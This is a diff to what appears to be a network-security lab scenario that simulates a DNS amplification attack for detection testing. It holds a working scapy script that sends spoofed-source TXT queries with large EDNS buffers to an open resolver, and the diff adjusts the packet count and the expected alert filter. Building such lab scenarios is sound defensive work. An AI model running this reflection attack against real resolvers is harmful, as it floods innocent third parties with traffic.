@@ -58,21 +58,21 @@ DNS_FORGED = '''
 from scapy.all import IP, UDP, DNS, DNSQR, DNSRROPT, send, conf
 import time
 conf.verb = 0
-for i in range(160):
+for i in range(80):
     send(IP(src="198.51.100.103", dst="192.0.2.15") / UDP(sport=1024 + 7 * i, dport=53) / DNS(id=i, rd=1, qd=DNSQR(qname="big.example.net", qtype="TXT"), ar=DNSRROPT(rclass=4096)), iface="eth0")
     time.sleep(0.004)
 '''
 
 
 @play("dns-amplification", "python", "alert", "amplification", need=("www", "clients", "pcs", "resolver"), bg=("web-in", "dns-out"), sources=[], targets=["198.51.100.103"], forged=["198.51.100.103"], border=False,
-      seen={"dns && ip.src==192.0.2.15": 60}, note="160 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
+      seen={"ip.src==192.0.2.15 && ip.flags.mf==1": 60}, note="80 questions for a TXT record of 2000 octets, forged in the name of a customer, to an open name server; he gets fragments that he did not ask for and answers with port-unreachable. (sender: scapy)")
 def _(lab):
     big_answer(lab)
     eve = lab.host("eve", "out", 141)
     yield
     time.sleep(1)
     services.python(eve, "forged_dns.py", DNS_FORGED)
-    lab.commands.append("python3 forged_dns.py (scapy: 160 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
+    lab.commands.append("python3 forged_dns.py (scapy: 80 x TXT big.example.net with EDNS 4096, source 198.51.100.103, to 192.0.2.15)")
     time.sleep(7)
     yield
 
